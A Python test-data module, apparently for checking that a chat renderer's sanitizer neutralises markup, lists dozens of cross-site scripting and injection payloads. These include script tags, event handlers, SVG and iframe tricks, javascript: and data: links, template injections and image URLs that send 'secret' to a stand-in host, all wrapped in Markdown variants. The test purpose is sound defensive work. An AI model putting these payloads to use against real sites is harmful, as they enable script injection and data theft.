"""Words that want to be markup: what is written into chats to run scripts, load pictures and forge buttons.
All of it is our own.

Each calls ``hacked()``, opens a dialog or asks another site for something, should anything ever take it for
more than words.
"""

ELSEWHERE = "https://elsewhere.invalid"
MARKUP = (
    "<script>hacked()</script>",
    "<ScRiPt>hacked()</sCrIpT >",
    f"<script src={ELSEWHERE}/a.js></script>",
    "<script>/*\n*/hacked()//",
    "</script><script>hacked()</script>",
    "<img src=x onerror=hacked()>",
    f'<img src="{ELSEWHERE}/a.png?words=secret">',
    "<img/src='x'/onerror='hacked()'>",
    "<img srcset='x 1x' onerror=hacked()>",
    "<svg onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s>",
    f"<svg><image href='{ELSEWHERE}/a.svg'/></svg>",
    "<math><mtext></p><style><img src=x onerror=hacked()></style></mtext></math>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    "<object data='javascript:hacked()'></object>",
    f"<embed src='{ELSEWHERE}/a.swf'>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<style>@import url({ELSEWHERE}/b.css);</style>",
    f"<div style=\"background:url('{ELSEWHERE}/c.png')\">x</div>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}><button autofocus onfocus=hacked()>Yes, book it</button></form>",
    "<input autofocus onfocus=hacked()>",
    "<details open ontoggle=hacked()>x</details>",
    "<video><source onerror=hacked()></video>",
    "<audio src=x onerror=hacked()></audio>",
    "<body onload=hacked()>",
    "<marquee onstart=hacked()>x</marquee>",
    "<a href='javascript:hacked()' id=press>press</a>",
    "<template><script>hacked()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hacked()>'>",
    "<textarea></textarea><img src=x onerror=hacked()>",
    "<!--><img src=x onerror=hacked()>-->",
    "<![CDATA[><img src=x onerror=hacked()>]]>",
    "&lt;img src=x onerror=hacked()&gt;",
    "&#60;script&#62;hacked()&#60;/script&#62;",
    "\\u003cscript\\u003ehacked()\\u003c/script\\u003e",
    "%3Cscript%3Ehacked()%3C/script%3E",
    "＜script＞hacked()＜/script＞",
    "{{constructor.constructor('hacked()')()}}",
    "${hacked()}",
    "{% set x = hacked() %}",
    '" onmouseover="hacked()" x="',
    "' autofocus onfocus='hacked()' x='",
    "`-hacked()-`",
    "x</textarea></title></style></script><svg/onload=hacked()>",
)
LINKS = (
    "javascript:hacked()",
    "JaVaScRiPt:hacked()",
    "java\tscript:hacked()",
    "\x01javascript:hacked()",
    "data:text/html,<script>hacked()</script>",
    "vbscript:hacked()",
    "blob:https://elsewhere.invalid/x",
    "file:///etc/passwd",
    "//elsewhere.invalid/x",
    "https://elsewhere.invalid/?words=secret",
    "mailto:x?body=<script>hacked()</script>",
)
DRESSES = ("{}", "Hello **{}** there", "- {}\n- and {}", "1. {}\n\n# {}", "“{}” says Ada")
LINK_DRESSES = ("[press here]({})", "![a picture]({})", "<{}>", "[**press**]({} 'title')", "[x]: {}")


def vectors() -> list[str]:
    """More than two hundred and fifty."""
    dressed = [dress.replace("{}", words) for words in MARKUP for dress in DRESSES]
    return dressed + [dress.replace("{}", link) for link in LINKS for dress in LINK_DRESSES]
